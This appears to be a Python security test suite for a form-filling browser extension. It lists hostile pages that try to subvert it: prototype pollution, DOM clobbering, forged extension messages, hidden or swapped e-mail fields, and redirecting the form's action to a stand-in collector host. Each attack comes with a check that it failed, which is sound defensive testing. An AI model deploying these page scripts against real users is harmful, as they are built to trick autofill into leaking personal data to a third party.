"""Attacks of a page on the person or the extension, each with a check that it failed.

Each page is a replica of the form of 2024 with something added. ``docs/security.md`` is written
from this table and from :mod:`builder.security.hostile.guards`.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from builder.browsers import BrowserName, until
from builder.browsers.page_session import Driven, Meeting
from builder.replica import pages as replica

__all__ = ["ATTACKS", "BOTH", "Attack", "attempt"]

BOTH: tuple[BrowserName, ...] = ("firefox", "chrome")
COUNTRY, EMAIL, REASON = "[name=country]", "[name=email]", "[name=objection_explanation]"
ISO_COUNTRY = "[name$=_iso2_country_code]"
ADDRESS = "camille.martin@example.org"
TYPED = "someone.else@example.org"
AWAY = "https://collector.example/take"
"""Address of a collector, to which a hostile page could send the form."""

Check = Callable[[Meeting], None]

_SCRIPTS = Path(__file__).parent / "scripts"
_SEEN_BY_PAGE = """() => {
  const entries = performance.getEntries().map(({ name }) => name);
  const elements = [...document.querySelectorAll("*")].map((node) => node.outerHTML);
  return [...entries, ...elements].filter((text) => text.includes("-extension:"));
}"""
"""Addresses of the extension that the page can learn."""


@dataclass(frozen=True)
class Attack:
    """A page with something added, at its first moment or at its end."""

    name: str
    title: str
    """Aim of the attack, for readers of ``docs/security.md``."""
    check: Check
    """Raises ``AssertionError`` when it succeeded."""
    first: str = ""
    """JavaScript that runs before anything else, in the page's own world."""
    last: str = ""
    """JavaScript that runs at the end of the page's body."""
    otherwise: str = "the browser: a content script has its own objects"
    """Defence against it, where no single place in our code is one."""
    page: str = "classic-2024"
    """The replica that the page is made from."""


def attempt(driven: Driven, attack: Attack) -> None:
    """Opens the page and checks what came of it."""
    page = replica.page(attack.page)
    meeting = driven.window()
    if attack.first:
        driven.control.stop_shared_engine()  # `first` needs a boot in the page
    first = f"<script>{attack.first}</script>" if attack.first else ""
    last = f"<script>{attack.last}</script>" if attack.last else ""
    html = (
        page.html().replace("<head>", f"<head>{first}", 1).replace("</body>", f"{last}</body>", 1)
    )
    replica.serve(driven.site, page, window=meeting.window.context)
    driven.site.serve(page.url, html, window=meeting.window.context)
    meeting.go(page.url)
    attack.check(meeting)


def filled(meeting: Meeting) -> None:
    """The form was filled all the same."""
    until(lambda: meeting.held(EMAIL) == [ADDRESS], 40, "the form is filled")
    meeting.settled()
    country, email, reason = meeting.held(COUNTRY, EMAIL, REASON)
    assert (country, email) == ("France", ADDRESS)
    assert "CNIL" in reason


def left_alone(*selectors: str) -> Check:
    """These controls hold nothing in the end."""

    def check(meeting: Meeting) -> None:
        meeting.settled()
        assert meeting.held(*selectors) == [""] * len(selectors)

    return check


def holds(selector: str, value: str) -> Check:
    """The control holds this value in the end, and the form is still there."""

    def check(meeting: Meeting) -> None:
        until(lambda: meeting.held(COUNTRY) == ["France"], 40, "the country is written")
        meeting.settled()
        assert meeting.held(selector) == [value]

    return check


def _nothing_sent(meeting: Meeting) -> None:
    until(lambda: meeting.held(ISO_COUNTRY) == ["FR"], 40, "the suggestion is chosen")
    meeting.settled()
    assert meeting.driven.posts() == []


def _report(meeting: Meeting) -> Any:
    return meeting.window.run("() => globalThis.caught ?? []", sandbox=False)


def _caught_nothing(meeting: Meeting) -> None:
    filled(meeting)
    assert _report(meeting) == []


def _script(name: str) -> str:
    """JavaScript of ``scripts/<name>.js``."""
    return (_SCRIPTS / f"{name}.js").read_text("utf-8")


def _on_country(work: str) -> str:
    """Script that runs once the country is written: after the plan, before the other writes."""
    return f"""document.querySelector("[name=country]").addEventListener("change", () => {{
  const form = document.querySelector("form"), email = document.querySelector("[name=email]");
  {work}
}}, {{ once: true }});"""


def _hidden(style: str) -> str:
    return f'document.querySelector("[name=email]").style.cssText = {style!r};'


_HIDDEN = {
    "opacity": ("is transparent", "opacity: 0.02"),
    "filter": ("is made transparent by a filter", "filter: opacity(2%)"),
    "offscreen": ("lies beyond the edge of the page", "position: absolute; left: -9000px"),
    "visibility": ("is invisible", "visibility: hidden"),
    "size": ("has no size", "width: 1px; height: 1px; padding: 0; border: 0"),
    "clip": ("is cut away", "clip-path: inset(50%)"),
}


def _nothing_opened(meeting: Meeting) -> None:
    filled(meeting)
    stored = meeting.driven.stored()
    assert stored["profile"]["email"] == ADDRESS
    assert "sent" not in {event["kind"] for event in stored["journal"]}
    control = meeting.driven.control
    addresses = [
        window.url()
        for window in control.browser.windows()
        if window.context != control.window.context
    ]
    assert not [url for url in addresses if "/settings/" in url]


def _leaves_in_peace(meeting: Meeting) -> None:
    meeting.window.wait("() => location.pathname === '/elsewhere'", timeout=40)
    meeting.driven.control.settle(meeting.tab, wait=20)
    assert not meeting.has_panel()
    assert meeting.window.run("() => document.querySelector('input').value") == ""


def _in_time(meeting: Meeting) -> None:
    until(lambda: meeting.held(EMAIL) == [ADDRESS], 60, "the form is filled")


def _nothing_listed(meeting: Meeting) -> None:
    filled(meeting)
    assert meeting.has_panel()
    assert meeting.window.run(_SEEN_BY_PAGE) == []


def _panel_in_words(meeting: Meeting) -> None:
    _caught_nothing(meeting)
    assert meeting.has_panel()


ATTACKS: tuple[Attack, ...] = (
    Attack(
        "promises",
        "The page defines `Object.prototype.then`, which the page’s own promises look up "
        "on every value",
        _caught_nothing,
        first=_script("promises"),
    ),
    Attack(
        "natives",
        "The page replaces what programs are made of, and listens",
        _caught_nothing,
        first=_script("natives"),
    ),
    Attack(
        "clobbered",
        "The page names its fields so that they hide what is asked of its form and document",
        filled,
        last=_script("clobbered"),
    ),
    Attack(
        "named-panel",
        "The page defines the panel’s element and takes its root",
        _caught_nothing,
        first=_script("named-panel"),
    ),
    Attack(
        "looking-in",
        "The page looks for the panel’s root and plays at being the person’s mouse",
        _caught_nothing,
        first=_script("looking-in"),
    ),
    Attack(
        "forged-messages",
        "The page sends the messages of the extension’s own parts",
        _nothing_opened,
        last=_script("forged-messages"),
    ),
    Attack(
        "resources",
        "The page asks the browser what was loaded, to learn the extension’s address",
        _nothing_listed,
        otherwise="the browser: what a content script loads is not in the page’s list",
    ),
    Attack(
        "markup",
        "Labels and headings hold markup and scripts as their text",
        _panel_in_words,
        last=_script("markup"),
        otherwise="what the panel shows is made of text nodes, never of markup",
    ),
    Attack(
        "masses",
        "Thousands of fields and millions of letters are put below the form",
        _in_time,
        last=_script("masses"),
        otherwise="what is read of a page, and what is sent of it to Python, is bounded",
    ),
    *(
        Attack(
            f"hidden-{name}", f"The e-mail field {title}", left_alone(EMAIL), last=_hidden(style)
        )
        for name, (title, style) in _HIDDEN.items()
    ),
    Attack(
        "hidden-covered", "The e-mail field is covered", left_alone(EMAIL), last=_script("covered")
    ),
    Attack(
        "hidden-meanwhile",
        "The e-mail field is hidden between the plan and the writing",
        left_alone(EMAIL),
        last=_on_country("email.style.opacity = 0;"),
    ),
    Attack(
        "another-meanwhile",
        "The e-mail field becomes another field between the plan and the writing",
        left_alone("[name=pin_hint]"),
        last=_on_country(
            'email.name = "pin_hint"; '
            'email.closest(".row").querySelector("label").textContent = "Numéro secret";'
        ),
    ),
    Attack(
        "typed-meanwhile",
        "The person types into the e-mail field between the plan and the writing",
        holds(EMAIL, TYPED),
        last=_on_country(f'email.value = "{TYPED}";'),
    ),
    Attack(
        "sent-by-a-press",
        "The page sends its form when the suggestion that Objecteur chooses is pressed",
        _nothing_sent,
        last="""document.querySelector("[role=listbox]").addEventListener("click", () => {
  document.querySelector("form").requestSubmit();
});""",
        page="classic-2024-typeahead",
    ),
    Attack(
        "elsewhere",
        "The form is sent to somebody else",
        left_alone(COUNTRY, EMAIL, REASON),
        last=f'document.querySelector("form").setAttribute("action", "{AWAY}");',
    ),
    Attack(
        "elsewhere-by-button",
        "One of several buttons sends the form to somebody else",
        left_alone(COUNTRY, EMAIL, REASON),
        last=f"""const diverting = '<button formaction="{AWAY}">Envoyer</button>';
const buttons = `${{diverting}}<button formaction="/own">Ok</button>`;
document.querySelector("form").insertAdjacentHTML("beforeend", buttons);""",
    ),
    Attack(
        "elsewhere-meanwhile",
        "The form is turned to somebody else between the plan and the writing",
        left_alone(EMAIL, REASON),
        last=_on_country(f'form.setAttribute("action", "{AWAY}");'),
    ),
    Attack(
        "button-meanwhile",
        "A button that sends the form to somebody else comes between the plan and the writing",
        left_alone(EMAIL, REASON),
        last=_on_country(f'form.querySelector("button").setAttribute("formaction", "{AWAY}");'),
    ),
    Attack(
        "away-meanwhile",
        "The page goes elsewhere while it is being filled",
        _leaves_in_peace,
        otherwise="what is planned names a node and its path, and both must still be one",
        last=_on_country(
            "history.replaceState({}, '', '/elsewhere'); "
            "document.body.innerHTML = '<label>Adresse e-mail <input type=email></label>';"
        ),
    ),
)
